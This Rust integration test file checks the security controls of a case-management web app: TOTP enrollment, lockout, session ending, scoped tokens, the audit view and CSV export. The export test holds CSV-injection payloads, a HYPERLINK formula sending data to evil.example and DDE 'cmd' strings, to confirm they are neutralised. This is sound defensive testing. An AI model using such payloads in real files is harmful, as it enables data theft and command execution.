//! Signing in with a second factor, lockout without account enumeration, sessions ended on
//! role changes, scoped tokens, the audit view, and exports.

use crate::common;
use crate::common::{PASSWORD, TestApp, csrf, text};
use corridor_domain::Role;
use corridor_store::{Actor, TokenScope};
use serde_json::{Value, json};

async fn password_step(app: &TestApp, username: &str, password: &str) -> reqwest::Response {
    TestApp::client()
        .post(app.url("/login"))
        .form(&[("username", username), ("password", password)])
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn first_sign_in_enrolls_a_second_factor_and_codes_work_once() {
    let app = TestApp::spawn().await;
    common::add_user_without_second_factor(app.store.as_ref(), "newbie", Role::CaseOfficer, None)
        .await;
    let browser = TestApp::client();
    let r = browser
        .post(app.url("/login"))
        .form(&[("username", "newbie"), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/login/code");
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );

    // The password alone opens nothing.
    let r = browser.get(app.url("/cases")).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/login/code");

    // The enrollment page shows the secret and the otpauth link.
    let (status, page) = app.page(&browser, "/login/code").await;
    assert_eq!(status, 200);
    let secret = page
        .split("id=\"totp-secret\">")
        .nth(1)
        .and_then(|s| s.split('<').next())
        .unwrap()
        .to_string();
    assert!(
        page.contains("otpauth://totp/Corridor:newbie?secret="),
        "{page}"
    );
    let token = csrf(&page);
    let (again_status, again) = app.page(&browser, "/login/code").await;
    assert_eq!(again_status, 200);
    assert!(again.contains(&secret), "reloading keeps the secret");

    let wrong = browser
        .post(app.url("/login/code"))
        .form(&[("csrf", token.as_str()), ("code", "000000")])
        .send()
        .await
        .unwrap();
    assert_eq!(wrong.status(), 200);
    assert!(text(&wrong.text().await.unwrap()).contains("That code is not right"));

    let step = corridor_web::totp::current_step();
    let code = corridor_web::totp::code(&secret, step).unwrap();
    let ok = browser
        .post(app.url("/login/code"))
        .form(&[("csrf", token.as_str()), ("code", code.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(ok.status(), 303);
    let (status, _) = app.page(&browser, "/cases").await;
    assert_eq!(status, 200, "signed in with password and code");

    // The same code cannot sign in a second time (another browser, same window).
    let other = TestApp::client();
    other
        .post(app.url("/login"))
        .form(&[("username", "newbie"), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    let (_, page) = app.page(&other, "/login/code").await;
    assert!(
        !page.contains(&secret),
        "an enrolled user is not shown the secret again"
    );
    let replay = other
        .post(app.url("/login/code"))
        .form(&[("csrf", csrf(&page).as_str()), ("code", code.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(replay.status(), 200, "a used code is refused");
    let (status, _) = app.page(&other, "/cases").await;
    assert_eq!(status, 303);

    // An administrator's reset makes the next sign-in enroll again, and signs the user out.
    app.store
        .set_totp(
            app.store
                .user_credentials("newbie")
                .await
                .unwrap()
                .unwrap()
                .0
                .id,
            None,
            &Actor::system("test"),
        )
        .await
        .unwrap();
    let (status, _) = app.page(&browser, "/cases").await;
    assert_eq!(status, 303, "reset ends sessions");
}

#[tokio::test]
async fn lockout_holds_and_answers_like_an_unknown_account() {
    let app = TestApp::spawn().await;
    let failed = |r: String| text(&r).contains("do not match an active account");
    let unknown = password_step(&app, "nobody-here", "wrong password given").await;
    assert_eq!(unknown.status(), 200);
    let unknown_text = unknown.text().await.unwrap();
    assert!(failed(unknown_text.clone()));
    for _ in 0..5 {
        let r = password_step(&app, "officer", "wrong password given").await;
        assert_eq!(r.status(), 200);
        let body = r.text().await.unwrap();
        assert!(failed(body.clone()));
    }
    // Locked: even the right password gets the same answer as an unknown account.
    let locked = password_step(&app, "officer", PASSWORD).await;
    assert_eq!(locked.status(), 200);
    let locked_text = locked.text().await.unwrap();
    assert_eq!(
        text(&locked_text).replace("officer", "X"),
        text(&unknown_text).replace("nobody-here", "X"),
        "a locked account looks exactly like an unknown one"
    );
    // The lockout is in the database, audited with the client's address.
    let events = app
        .store
        .search_audit(
            &corridor_store::AuditFilter {
                action: Some("user.locked_out".into()),
                ..Default::default()
            },
            10,
        )
        .await
        .unwrap();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].ip.as_deref(), Some("127.0.0.1"));
    assert_eq!(events[0].entity_id, app.officer.id.0);
    // A new password (set by an administrator) lifts it.
    let hash =
        corridor_web::auth::hash_password(&corridor_domain::Password::parse(PASSWORD).unwrap())
            .unwrap();
    app.store
        .set_password_hash(app.officer.id, hash, &Actor::system("test"))
        .await
        .unwrap();
    let browser = app.signed_in("officer").await;
    let (status, _) = app.page(&browser, "/cases").await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn a_role_change_needs_a_fresh_code_and_signs_the_user_out_everywhere() {
    let app = TestApp::spawn().await;
    common::add_user(app.store.as_ref(), "boss", Role::Admin, None).await;
    let admin = app.signed_in("boss").await;
    let officer = app.signed_in("officer").await;
    let (status, page) = app.page(&admin, "/admin/users").await;
    assert_eq!(status, 200);
    let token = csrf(&page);
    let path = format!("/admin/users/{}/role", app.officer.id);
    let r = admin
        .post(app.url(&path))
        .form(&[
            ("csrf", token.as_str()),
            ("role", "auditor"),
            ("code", "000000"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "a wrong code changes nothing");
    assert_eq!(app.page(&officer, "/cases").await.0, 200);
    let code = app.code("boss").await;
    let r = admin
        .post(app.url(&path))
        .form(&[
            ("csrf", token.as_str()),
            ("role", "auditor"),
            ("code", code.as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    let r = officer.get(app.url("/cases")).send().await.unwrap();
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/login", "signed out everywhere");
    let again = app.signed_in("officer").await;
    assert_eq!(app.page(&again, "/cases").await.0, 403, "now an auditor");
    assert_eq!(app.page(&again, "/audit").await.0, 200);
}

#[tokio::test]
async fn tokens_do_only_what_their_scopes_allow_and_revoked_ones_nothing() {
    let app = TestApp::spawn().await;
    let client = reqwest::Client::new();
    let intake = app.token_with(&app.lead, &[TokenScope::Intake]).await;
    let body = json!({
        "category": "visa", "subject": "SIV applicant asks for help",
        "requester": {"kind": "sponsor", "name": "A synthetic sponsor"},
        "people": [{"given_name": "Scoped", "family_name": "Testzai"}]
    });
    let r = client
        .post(app.url("/api/v1/inquiries"))
        .bearer_auth(&intake)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 201);
    let case = r.json::<Value>().await.unwrap()["case_id"]
        .as_i64()
        .unwrap();
    for path in [
        "/api/v1/cases",
        "/api/v1/inquiries",
        &format!("/api/v1/cases/{case}"),
    ] {
        let r = client
            .get(app.url(path))
            .bearer_auth(&intake)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403, "intake-only token read {path}");
    }
    let read = app.token_with(&app.lead, &[TokenScope::Read]).await;
    let r = client
        .get(app.url(&format!("/api/v1/cases/{case}")))
        .bearer_auth(&read)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = client
        .post(app.url(&format!("/api/v1/cases/{case}/assign")))
        .bearer_auth(&read)
        .json(&json!({"owner_id": app.officer.id.0}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "a read token cannot change a case");
    let tokens = app.store.list_api_tokens(Some(app.lead.id)).await.unwrap();
    let read_id = tokens
        .iter()
        .find(|t| t.scopes == vec![TokenScope::Read])
        .unwrap()
        .id;
    app.store
        .revoke_api_token(read_id, &Actor::system("test"))
        .await
        .unwrap();
    let r = client
        .get(app.url("/api/v1/cases"))
        .bearer_auth(&read)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401, "a revoked token is refused");
}

#[tokio::test]
async fn auditors_see_who_did_what_from_where_and_nothing_else() {
    let app = TestApp::spawn().await;
    common::add_user(app.store.as_ref(), "watcher", Role::Auditor, None).await;
    let lead = app.signed_in("lead").await;
    let token = app.token(&app.clerk).await;
    let r = reqwest::Client::new()
        .post(app.url("/api/v1/inquiries"))
        .bearer_auth(&token)
        .json(&json!({
            "category": "visa", "subject": "SIV applicant asks for help",
            "requester": {"kind": "sponsor", "name": "A synthetic sponsor"},
            "people": [{"given_name": "Audited", "family_name": "Testzai"}]
        }))
        .send()
        .await
        .unwrap();
    let case = r.json::<Value>().await.unwrap()["case_id"]
        .as_i64()
        .unwrap();
    assert_eq!(app.page(&lead, &format!("/cases/{case}")).await.0, 200);

    let auditor = app.signed_in("watcher").await;
    let r = auditor.get(app.url("/")).send().await.unwrap();
    assert_eq!(r.headers()["location"], "/audit");
    let (status, page) = app
        .page(
            &auditor,
            &format!("/audit?action=case.viewed&entity=case&entity_id={case}"),
        )
        .await;
    assert_eq!(status, 200);
    let page = text(&page);
    assert!(page.contains("lead 127.0.0.1 case.viewed case"), "{page}");
    assert!(
        !page.contains("Audited"),
        "no personal data in the audit view"
    );
    assert_eq!(app.page(&auditor, &format!("/cases/{case}")).await.0, 403);
    assert_eq!(app.page(&auditor, "/inquiries").await.0, 403);

    // The API pages through the same events.
    let watcher = app
        .store
        .user_credentials("watcher")
        .await
        .unwrap()
        .unwrap()
        .0;
    let api = app.token(&watcher).await;
    let page: Value = reqwest::Client::new()
        .get(app.url("/api/v1/audit?actor=lead&limit=1"))
        .bearer_auth(&api)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(page["items"].as_array().unwrap().len(), 1);
    assert_eq!(page["items"][0]["actor_name"], "lead");
    let before = page["next"].as_i64().expect("more events");
    let older: Value = reqwest::Client::new()
        .get(app.url(&format!("/api/v1/audit?actor=lead&before={before}")))
        .bearer_auth(&api)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert!(
        older["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["id"].as_i64().unwrap() < before)
    );
}

/// Names typed by a requester reach the case export; none may open as a live formula in a
/// spreadsheet program (OWASP's rule: a leading `'` before `=`, `+`, `-`, `@`, tab, CR).
#[tokio::test]
async fn the_case_export_neutralizes_spreadsheet_formulas() {
    let app = TestApp::spawn().await;
    let token = app.token(&app.clerk).await;
    let formulas = [
        r#"=HYPERLINK("http://evil.example/?d="&A3,"Open")"#,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
    ];
    for f in formulas {
        let r = reqwest::Client::new()
            .post(app.url("/api/v1/inquiries"))
            .bearer_auth(&token)
            .json(&json!({
                "category": "visa", "subject": "Help",
                "requester": {"kind": "sponsor", "name": "A synthetic sponsor"},
                "people": [{"given_name": f, "family_name": "Testzai"}]
            }))
            .send()
            .await
            .unwrap();
        assert!(r.status().is_success(), "{f}: {}", r.text().await.unwrap());
    }
    let lead = app.signed_in("lead").await;
    let (_, page) = app.page(&lead, "/export").await;
    let code = app.code("lead").await;
    let r = lead
        .post(app.url("/export/cases"))
        .form(&[("csrf", csrf(&page).as_str()), ("code", code.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let file = r.text().await.unwrap();
    // The first line is the mark, then a header and one row per case.
    let body = file.split_once('\n').unwrap().1;
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula in the export: {cell:?}"
            );
        }
        rows += 1;
    }
    assert_eq!(rows, formulas.len());
    for f in formulas {
        assert!(
            file.contains(&format!("'{f}").replace('"', "\"\"")),
            "{f} missing: {file}"
        );
    }
}

#[tokio::test]
async fn leads_export_cases_with_a_fresh_code_marked_and_audited() {
    let app = TestApp::spawn().await;
    let token = app.token(&app.clerk).await;
    reqwest::Client::new()
        .post(app.url("/api/v1/inquiries"))
        .bearer_auth(&token)
        .json(&json!({
            "category": "visa", "subject": "SIV applicant asks for help",
            "requester": {"kind": "sponsor", "name": "A synthetic sponsor"},
            "people": [{"given_name": "Exported", "family_name": "Testzai"}]
        }))
        .send()
        .await
        .unwrap();
    let lead = app.signed_in("lead").await;
    let (status, page) = app.page(&lead, "/export").await;
    assert_eq!(status, 200);
    let token = csrf(&page);
    let r = lead
        .post(app.url("/export/cases"))
        .form(&[("csrf", token.as_str()), ("code", "000000")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "an export needs a fresh code");
    let code = app.code("lead").await;
    let r = lead
        .post(app.url("/export/cases"))
        .form(&[("csrf", token.as_str()), ("code", code.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(
        r.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert_eq!(r.headers()["cache-control"], "no-store");
    let csv = r.text().await.unwrap();
    let first = csv.lines().next().unwrap();
    assert!(
        first.starts_with("# Corridor export of cases by lead at "),
        "{first}"
    );
    assert!(csv.contains("Exported Testzai"), "{csv}");
    let events = app
        .store
        .search_audit(
            &corridor_store::AuditFilter {
                action: Some("cases.exported".into()),
                ..Default::default()
            },
            10,
        )
        .await
        .unwrap();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].actor_name, "lead");
    assert!(events[0].detail.contains("1 cases"), "{}", events[0].detail);

    let officer = app.signed_in("officer").await;
    assert_eq!(app.page(&officer, "/export").await.0, 403);
}
